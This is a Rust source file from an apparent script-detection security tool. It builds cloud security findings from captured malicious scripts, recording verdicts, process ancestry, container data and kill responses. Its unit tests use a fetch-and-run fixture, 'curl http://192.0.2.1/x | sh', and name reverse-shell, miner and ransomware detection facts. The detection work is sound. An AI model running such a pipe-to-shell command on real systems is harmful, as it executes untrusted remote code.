//! Fills the finding. What each field holds is documented with the public finding type; every field that is
//! known is filled, and none is guessed.

use std::{collections::BTreeMap, time::Duration};

use proto::{
    scc::{
        File, Finding, Process,
        finding::{FindingClass, State},
    },
    well_known::{ListValue, Value, value::Kind},
};

use crate::{
    attack,
    id::finding_id,
    indicator,
    place::Place,
    time::{rfc3339, timestamp},
};
use identity::{Identity, Node, ProcessFacts, Provenance};
use response::{Action, Held, Response};
use script::{Capture, Origin};
use verdict::{Reason, Verdict, technique::TECHNIQUES};

/// Facts that are told of a script in its properties, techniques and facts that its description names.
const REASONS: usize = 24;
const NAMED: usize = 8;
const DESCRIBED: usize = 5;

/// Category of the finding, as the public documentation names it.
const CATEGORY: &str = "Malicious Script Executed";

/// Everything a finding is made of.
pub struct Evidence<'a> {
    /// What ran.
    pub capture: &'a Capture,
    /// What was found about it.
    pub verdict: &'a Verdict,
    /// The machine.
    pub node: &'a Node,
    /// Where it ran, as far as known.
    pub identity: &'a Identity,
    /// The process's parents, its parent first, as far as they were still there.
    pub ancestors: &'a [ProcessFacts],
    /// Where the script's file is from, in a container.
    pub provenance: Option<Provenance>,
    /// How often the script ran in this container.
    pub runs: u64,
    /// When the last run began, Unix time in ns.
    pub last_run_unix_ns: u64,
    /// What was done about it; `None` where responses are off.
    pub response: Option<&'a Response>,
    /// In how many of the runs something was killed.
    pub killed_runs: u64,
    /// Unix time now, ns.
    pub now_unix_ns: u64,
}

/// Makes the finding.
pub fn build(evidence: &Evidence<'_>) -> Finding {
    let Evidence { capture, verdict, node, identity, ancestors, now_unix_ns, .. } = evidence;
    let sha256 = verdict.hash.to_string();
    let script = script_file(capture, &sha256);
    let binary_path = text(&capture.interpreter.path);
    let binary = File {
        path: binary_path.clone(),
        size: signed(capture.interpreter.size),
        hashed_size: capture.interpreter.sha256.as_ref().map_or(0, |_| signed(capture.interpreter.size)),
        sha256: capture.interpreter.sha256.clone().unwrap_or_default(),
        partially_hashed: false,
        contents: String::new(),
    };
    let args: Vec<String> = capture.args.iter().map(|arg| text(arg)).collect();
    let process = Process {
        name: process_name(capture),
        binary: Some(binary),
        script: Some(script),
        args: args.clone(),
        arguments_truncated: capture.args_truncated,
        pid: i64::from(capture.id.pid),
        parent_pid: i64::from(capture.ppid),
        user_id: i64::from(capture.uid),
        ..Process::default()
    };
    let mut processes = vec![process];
    processes.extend(ancestors.iter().map(ancestor));

    let parent_name =
        format!("projects/{}/sources/{}/locations/{}", node.project(), node.source, node.location);
    let place = Place::of(identity, node);
    let virus_total = format!("https://www.virustotal.com/gui/file/{sha256}/detection");
    Finding {
        name: format!("{parent_name}/findings/{}", finding_id(&node.boot_id, &capture.id)),
        parent: parent_name,
        resource_name: node.resource_name(),
        state: State::Active.into(),
        category: CATEGORY.to_owned(),
        external_uri: virus_total.clone(),
        source_properties: properties(evidence, &place, &args, &binary_path, &virus_total),
        event_time: Some(timestamp(capture.time_unix_ns)),
        create_time: Some(timestamp(*now_unix_ns)),
        severity: attack::SEVERITY.into(),
        finding_class: FindingClass::Threat.into(),
        indicator: indicator::of(&capture.content),
        mitre_attack: Some(attack::mitre(verdict)),
        processes,
        parent_display_name: "scriptwatch".to_owned(),
        description: describe(capture, verdict, node, &place) + done(evidence.response),
        next_steps: next_steps(capture, node, &place),
        containers: place.containers(),
        kubernetes: Some(place.kubernetes()),
        module_name: "SCRIPTWATCH_MALICIOUS_SCRIPT_EXECUTED".to_owned(),
        ..Finding::default()
    }
}

/// The script. A path is given only for scripts on disk; the hash is of exactly the bytes kept.
fn script_file(capture: &Capture, sha256: &str) -> File {
    let on_disk = matches!(capture.origin, Origin::File | Origin::Sourced | Origin::Stdin);
    File {
        path: capture.path.as_deref().filter(|_| on_disk).map(text).unwrap_or_default(),
        size: signed(capture.size),
        sha256: sha256.to_owned(),
        hashed_size: signed(capture.content.len() as u64),
        partially_hashed: capture.size > capture.content.len() as u64,
        contents: text(&capture.content),
    }
}

fn ancestor(parent: &ProcessFacts) -> Process {
    Process {
        name: parent.name.clone(),
        binary: Some(File { path: text(&parent.exe), ..File::default() }),
        args: parent.args.clone(),
        arguments_truncated: parent.args_truncated,
        pid: i64::from(parent.pid),
        parent_pid: i64::from(parent.ppid),
        user_id: i64::from(parent.uid),
        ..Process::default()
    }
}

/// A process that runs a script file bears the script's name, else its interpreter's.
fn process_name(capture: &Capture) -> String {
    let path = capture.path.as_deref().unwrap_or(&capture.interpreter.path);
    text(path.rsplit(|b| *b == b'/').next().unwrap_or_default())
}

fn properties(
    evidence: &Evidence<'_>,
    place: &Place<'_>,
    args: &[String],
    binary_path: &str,
    virus_total: &str,
) -> BTreeMap<String, Value> {
    let Evidence { capture, verdict, node, .. } = evidence;
    let string = |s: &str| Value { kind: Some(Kind::StringValue(s.to_owned())) };
    let number = |n: f64| Value { kind: Some(Kind::NumberValue(n)) };
    let boolean = |b: bool| Value { kind: Some(Kind::BoolValue(b)) };
    let list = |values: Vec<Value>| Value { kind: Some(Kind::ListValue(ListValue { values })) };
    let spans = verdict.spans.iter().map(|span| {
        string(&format!(
            "lines {}-{}, bytes {}-{}, weight {:.2}",
            span.first_line, span.last_line, span.start, span.end, span.weight
        ))
    });
    let created = rfc3339(clock::boot_unix_ns() + capture.start_ns);
    let mut properties = BTreeMap::from([
        ("Script_Origin", string(capture.origin.name())),
        ("Script_SHA256", string(&verdict.hash.to_string())),
        ("Verdict_Score", number(f64::from(verdict.score))),
        ("Verdict_Techniques", list(verdict.technique_ids().into_iter().map(string).collect())),
        ("Verdict_Spans", list(spans.collect())),
        ("Verdict_Reasons", list(verdict.reasons.iter().take(REASONS).map(|r| string(&reason(r))).collect())),
        ("Triage_Level", string(attack::triage(verdict))),
        ("VirusTotal_Link", string(virus_total)),
        ("VM_Instance_Name", string(node.instance())),
        ("Node_Name", string(&node.name)),
        ("User_Id", number(f64::from(capture.uid))),
        ("Pid", number(f64::from(capture.id.pid))),
        ("Container_Pid", number(f64::from(capture.ns_pid))),
        ("Parent_Pid", number(f64::from(capture.ppid))),
        ("Process_Binary_Fullpath", string(binary_path)),
        ("Process_Arguments", list(args.iter().map(|arg| string(arg)).collect())),
        ("Process_Creation_Timestamp", string(&created)),
        ("Execution_Count", number(evidence.runs as f64)),
        ("Last_Execution_Timestamp", string(&rfc3339(evidence.last_run_unix_ns))),
    ]);
    if let Some(response) = evidence.response {
        properties.insert("Response_Action", string(response.action.name()));
        properties.insert("Response_Duration_Ms", number(response.took_ns as f64 / 1e6));
        if !response.reason.is_empty() {
            properties.insert("Response_Reason", string(&response.reason));
        }
        properties.insert("Response_Killed_Runs", number(evidence.killed_runs as f64));
        if let Action::Killed(processes) | Action::KilledPartly(processes) = response.action {
            properties.insert("Response_Processes", number(f64::from(processes)));
        }
        let progress = response.progress;
        properties.insert("Response_Ran_Before", string(progress.ran()));
        properties.insert("Response_Forks_Before", number(f64::from(progress.forks)));
        if let Some(would) = response.if_held {
            properties.insert("Response_Ran_If_Held", string(would));
        }
        let millis = |held: Duration| number(held.as_secs_f64() * 1e3);
        match progress.held {
            Held::No => {}
            Held::Yes(held) => {
                properties.insert("Response_Held_Ms", millis(held));
            }
            Held::TimedOut(held) => {
                properties.insert("Response_Held_Ms", millis(held));
                properties.insert("Response_Hold_Timed_Out", boolean(true));
            }
        }
    }
    properties.extend(place.properties().into_iter().map(|(key, value)| (key, string(&value))));
    if capture.flags.incomplete {
        properties.insert("Script_Incomplete", boolean(true));
    }
    if capture.flags.mixed_with_data {
        properties.insert("Script_Mixed_With_Data", boolean(true));
    }
    if capture.flags.keystrokes {
        properties.insert("Script_From_Keystrokes", boolean(true));
    }
    if capture.flags.maybe_data {
        properties.insert("Script_Maybe_Data", boolean(true));
    }
    if capture.offset > 0 {
        properties.insert("Script_Offset", number(capture.offset as f64));
    }
    if let Some(provenance) = evidence.provenance {
        properties.insert("Script_Provenance", string(provenance.name()));
    }
    if let Some(writer) = &capture.writer {
        properties.insert("Script_Written_By", string(&text(&writer.name)));
        properties.insert("Script_Written_By_Pid", number(f64::from(writer.pid)));
    }
    if let Some(unseen) = capture.unseen() {
        properties.insert("Shell_Unseen", string(unseen.name()));
    }
    if capture.flags.evaluates_unseen {
        properties.insert("Script_Evaluates_Unseen", boolean(true));
    }
    if let Some(by) = &capture.evaluated_by {
        properties.insert("Script_Evaluated_By", string(&text(by)));
    }
    if let Some(parent) = &capture.parent {
        // The finding that the parent has, or would have if it was malicious.
        properties.insert("Script_Parent", string(&finding_id(&node.boot_id, parent)));
    }
    if capture.origin == Origin::Session {
        let commands = capture.joined.iter().map(|joined| {
            string(&format!(
                "lines {}-{}: {}, {}, process {}",
                joined.first_line,
                joined.last_line,
                rfc3339(joined.time_unix_ns),
                joined.origin.name(),
                joined.script.pid
            ))
        });
        properties.insert("Session_Commands", list(commands.collect()));
        // The findings that they have, or would have if they were malicious by themselves.
        let scripts = capture.joined.iter().map(|joined| string(&finding_id(&node.boot_id, &joined.script)));
        properties.insert("Session_Scripts", list(scripts.collect()));
    }
    if std::str::from_utf8(&capture.content).is_err() {
        // The hash is of the bytes as they ran; the contents show replacement characters.
        properties.insert("Script_Not_UTF8", boolean(true));
    }
    properties.into_iter().map(|(key, value)| (key.to_owned(), value)).collect()
}

fn describe(capture: &Capture, verdict: &Verdict, node: &Node, place: &Place<'_>) -> String {
    let how = match capture.origin {
        Origin::File => "from a file",
        Origin::Command => "given as an argument (-c)",
        Origin::Stdin => "from standard input",
        Origin::Sourced => "sourced from a file",
        Origin::Eval => "as an evaluated string",
        Origin::Environment => "in a variable of its environment",
        Origin::Interactive => "typed at a terminal",
        Origin::Session => "joined from several",
    };
    let how = match &capture.writer {
        Some(writer) => format!("{how} that {} wrote,", text(&writer.name)),
        None => how.to_owned(),
    };
    let interpreter = text(&capture.interpreter.path);
    let does = does(verdict);
    let names: Vec<&str> = verdict.techniques.iter().take(NAMED).map(|i| TECHNIQUES[*i].name).collect();
    let shows = if names.is_empty() { String::new() } else { format!(" It shows: {}.", names.join(", ")) };
    let lines: Vec<String> = verdict
        .spans
        .iter()
        .map(|s| {
            if s.first_line == s.last_line {
                s.first_line.to_string()
            } else {
                format!("{}-{}", s.first_line, s.last_line)
            }
        })
        .collect();
    let because = if lines.is_empty() {
        String::new()
    } else {
        format!(" Lines that carried the verdict: {}.", lines.join(", "))
    };
    let (size, place, node, score) = (capture.size, place.words(), &node.name, verdict.score);
    let model = "a machine learning model takes for malicious";
    let what = if capture.origin == Origin::Session {
        format!(
            "{interpreter} executed the last of {} scripts of one session, together of {size} bytes, {place} on node {node}, which {model} together, though none of them by itself",
            capture.joined.len()
        )
    } else {
        format!("{interpreter} executed a script {how} of {size} bytes {place} on node {node}, which {model}")
    };
    format!("{what} (score {score:.3}).{does}{shows}{because}")
}

/// What a script does, in a line of its own.
fn reason(reason: &Reason) -> String {
    let about = if reason.about.is_empty() { String::new() } else { format!(": {}", text(&reason.about)) };
    let technique = reason.fact.technique();
    let technique = if technique.is_empty() { String::new() } else { format!(" ({technique})") };
    format!("line {}, {}: {}{technique}{about}", reason.line, reason.fact, reason.fact.sentence())
}

/// What a script does, in a sentence: the weightiest facts of an attack, or whichever there are.
fn does(verdict: &Verdict) -> String {
    let attacks =
        |attack: bool| verdict.reasons.iter().filter(move |reason| reason.fact.is_of_attacks() == attack);
    let said: Vec<&str> =
        attacks(true).chain(attacks(false)).take(DESCRIBED).map(|reason| reason.fact.sentence()).collect();
    match &said[..] {
        [] => String::new(),
        [one] => format!(" It {one}."),
        [first @ .., last] => format!(" It {}, and {last}.", first.join(", ")),
    }
}

/// What was done, in a sentence.
fn done(response: Option<&Response>) -> &'static str {
    match response.map(|response| response.action) {
        None | Some(Action::None) => "",
        Some(Action::Killed(_)) => " The shell and what descended from it was killed.",
        Some(Action::WouldKill) => " It was left alone; outside of audit mode it would have been killed.",
        Some(Action::KilledPartly(_)) => {
            " The shell was killed; of what descended from it some may be left, since there was too much of it or it could not be held."
        }
        Some(Action::Gone) => {
            " The shell had ended before it could be killed; what it started may still run."
        }
        Some(Action::LeftInit) => " It was left alone because it is its container's first process.",
        Some(Action::LeftData) => " It was left alone because it may be data.",
        Some(Action::Denied) => " The kernel refused to let it be killed.",
        Some(Action::NotIdentified) => " It was left alone because its container was not known yet.",
    }
}

fn next_steps(capture: &Capture, node: &Node, place: &Place<'_>) -> String {
    format!(
        "1. Read the script and the lines named in Verdict_Spans. 2. Look the hash up at VirusTotal. 3. On node {}, \
         look at process {} and its parents, listed in this finding: who started them, and is that expected? 4. {} \
         5. If the script is not yours, isolate the workload, rotate the credentials it could read, and look for \
         other findings with the same hash.",
        node.name,
        capture.id.pid,
        place.how_to_look(),
    )
}

/// Bytes as a Protobuf string: U+FFFD where they are not UTF-8.
fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn signed(n: u64) -> i64 {
    i64::try_from(n).unwrap_or(i64::MAX)
}

#[cfg(test)]
mod tests {
    use proto::scc::{finding::Severity, mitre_attack::Technique};

    use super::*;
    use behaviour::Fact;
    use identity::{Cloud, Container, ContainerId, Pod};
    use script::ScriptId;
    use verdict::ScriptHash;

    fn finding(change: impl FnOnce(&mut Capture)) -> Finding {
        finding_in(&Identity::default(), change)
    }

    fn finding_in(identity: &Identity, change: impl FnOnce(&mut Capture)) -> Finding {
        let mut capture = Capture {
            id: ScriptId { pid: 10, exec_ns: 20, ordinal: 0 },
            path: Some(b"/tmp/x.sh".to_vec()),
            args: vec![b"/bin/bash".to_vec(), b"/tmp/x.sh".to_vec()],
            ns_pid: 1,
            ppid: 9,
            time_unix_ns: 1_700_000_000_000_000_001,
            ..script::sample(10, b"curl http://192.0.2.1/x | sh\n")
        };
        change(&mut capture);
        let verdict = Verdict {
            hash: ScriptHash::of(&capture.content),
            score: 0.9,
            malicious: true,
            techniques: vec![4],
            spans: vec![],
            reasons: vec![],
        };
        let node = Node {
            name: "n".to_owned(),
            boot_id: "b".to_owned(),
            source: "s".to_owned(),
            location: "global".to_owned(),
            cloud: Cloud { project_id: "p".to_owned(), ..Cloud::default() },
            is_complete: true,
        };
        build(&Evidence {
            capture: &capture,
            verdict: &verdict,
            node: &node,
            identity,
            ancestors: &[],
            provenance: None,
            runs: 1,
            last_run_unix_ns: 1_700_000_000_000_000_001,
            response: None,
            killed_runs: 0,
            now_unix_ns: 5,
        })
    }

    fn script(finding: &Finding) -> File {
        finding.processes[0].script.clone().unwrap()
    }

    #[test]
    fn the_hash_is_of_the_contents_and_sizes_agree() {
        let whole = script(&finding(|_| {}));
        assert_eq!(whole.sha256, ScriptHash::of(whole.contents.as_bytes()).to_string());
        assert_eq!((whole.size, whole.hashed_size, whole.partially_hashed), (29, 29, false));
        let cut = script(&finding(|c| c.size = 2_000_000));
        assert_eq!((cut.size, cut.hashed_size, cut.partially_hashed), (2_000_000, 29, true));
    }

    #[test]
    fn literal_execution_has_no_path() {
        assert_eq!(script(&finding(|_| {})).path, "/tmp/x.sh");
        let literal = finding(|c| c.origin = Origin::Command);
        assert_eq!(script(&literal).path, "");
    }

    #[test]
    fn what_a_script_does_is_told_in_a_sentence_and_line_by_line() {
        let of = |fact, line, about: &[u8]| Reason { fact, line, about: about.to_vec(), weight: 1.0 };
        let mut verdict = Verdict {
            hash: ScriptHash::of(b"x"),
            score: 0.9,
            malicious: true,
            techniques: vec![],
            spans: vec![],
            reasons: vec![],
        };
        assert_eq!(does(&verdict), "");
        verdict.reasons.push(of(Fact::Fetches, 2, b"192.0.2.1"));
        assert_eq!(does(&verdict), " It fetches something.");
        verdict.reasons.push(of(Fact::HistoryOff, 9, b""));
        // An attack's steps come first.
        assert_eq!(does(&verdict), " It keeps its commands out of the history, and fetches something.");
        assert_eq!(reason(&verdict.reasons[0]), "line 2, fetch: fetches something (T1105): 192.0.2.1");
        assert_eq!(attack::triage(&verdict), "usual");
        verdict.reasons.extend([Fact::ReverseShell, Fact::Miner, Fact::Ransom].map(|fact| of(fact, 1, b"")));
        assert_eq!(attack::triage(&verdict), "urgent");
    }

    #[test]
    fn an_escape_is_critical_and_names_its_technique() {
        let finding = finding(|_| {});
        assert_eq!(finding.severity(), Severity::Critical);
        let attack = finding.mitre_attack.unwrap();
        assert!(attack.additional_techniques.contains(&i32::from(Technique::EscapeToHost)));
        assert_eq!(attack.primary_techniques, [6, 7]);
    }

    #[test]
    fn a_container_is_told_in_every_place_where_it_belongs() {
        let pod = Pod {
            namespace: "shop".to_owned(),
            name: "web-0".to_owned(),
            uid: "u".to_owned(),
            labels: [("app".to_owned(), "web".to_owned())].into(),
        };
        let container = Container {
            id: ContainerId::new(&"0".repeat(64)).unwrap(),
            name: "app".to_owned(),
            image_uri: "registry.example/web:1".to_owned(),
            image_id: "sha256:1".to_owned(),
            labels: BTreeMap::new(),
            created_unix_ns: Some(1_700_000_000_000_000_000),
            sandbox: "s".to_owned(),
            pod: Some(pod),
        };
        let finding =
            finding_in(&Identity { container: Some(container.into()), ..Identity::default() }, |_| {});
        let pods = &finding.kubernetes.as_ref().unwrap().pods;
        assert_eq!((pods[0].ns.as_str(), pods[0].name.as_str()), ("shop", "web-0"));
        assert_eq!(pods[0].labels[0].value, "web");
        assert_eq!(pods[0].containers, finding.containers);
        assert_eq!(finding.containers[0].uri, "registry.example/web:1");
        let property = |key: &str| match finding.source_properties[key].kind.as_ref() {
            Some(Kind::StringValue(text)) => text.clone(),
            other => panic!("{other:?}"),
        };
        assert_eq!(property("Pod_Namespace"), "shop");
        assert_eq!(property("Container_Image_Id"), "sha256:1");
        assert_eq!(property("Container_Creation_Timestamp"), "2023-11-14T22:13:20Z");
        assert!(finding.description.contains("pod shop/web-0"));
    }

    #[test]
    fn names_follow_the_documented_form() {
        let finding = finding(|_| {});
        let (parent, id) = finding.name.rsplit_once("/findings/").unwrap();
        assert_eq!(parent, "projects/p/sources/s/locations/global");
        assert!((1..=32).contains(&id.len()) && id.bytes().all(|b| b.is_ascii_alphanumeric()));
        assert!(finding.source_properties.keys().all(|k| k.as_bytes()[0].is_ascii_alphabetic()
            && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')));
    }

    /// What a collector would refuse would be lost, and who makes its script, arguments, parents and labels large must not get
    /// that far.
    #[test]
    fn the_largest_finding_is_one_that_a_collector_takes() {
        let labels: BTreeMap<String, String> =
            (0..256).map(|n| (format!("{n:0316}"), "v".repeat(63))).collect();
        let pod = Pod {
            namespace: "n".repeat(63),
            name: "p".repeat(253),
            uid: "u".to_owned(),
            labels: labels.clone(),
        };
        let container = Container {
            id: ContainerId::new(&"0".repeat(64)).unwrap(),
            name: "c".repeat(63),
            image_uri: "i".repeat(4096),
            image_id: "sha256:1".to_owned(),
            labels,
            created_unix_ns: Some(1),
            sandbox: "s".to_owned(),
            pod: Some(pod),
        };
        let identity = Identity { container: Some(container.into()), ..Identity::default() };
        let parent = ProcessFacts {
            pid: 1,
            ppid: 1,
            name: "x".repeat(16),
            exe: vec![0xff; 4096],
            args: vec![String::new(); 128],
            args_truncated: true,
            uid: 0,
            start_ns: 1,
            exec_ns: None,
        };
        let capture = Capture {
            path: Some(vec![0xff; 4096]),
            // As many words and bytes as the assembler keeps.
            args: vec![vec![0xff; 32]; 1024],
            ..script::sample(10, &vec![0xff; 2 * 1024 * 1024])
        };
        let verdict = Verdict {
            hash: ScriptHash::of(&capture.content),
            score: 0.9,
            malicious: true,
            techniques: (0..TECHNIQUES.len()).collect(),
            spans: vec![],
            reasons: vec![],
        };
        let finding = build(&Evidence {
            capture: &capture,
            verdict: &verdict,
            node: &Node::default(),
            identity: &identity,
            provenance: None,
            ancestors: &vec![parent; 16],
            runs: 1,
            last_run_unix_ns: 1,
            response: None,
            killed_runs: 0,
            now_unix_ns: 1,
        });
        let bytes = proto::ingest::Envelope::of(&finding, 1).finding;
        assert!(bytes.len() <= proto::FINDING_BYTES_MAX, "{} bytes", bytes.len());
        let elements = proto::elements::of_finding(&bytes, proto::FINDING_ELEMENTS_MAX);
        assert!(elements.is_some_and(|n| n > 5_000), "{elements:?}");
    }
}
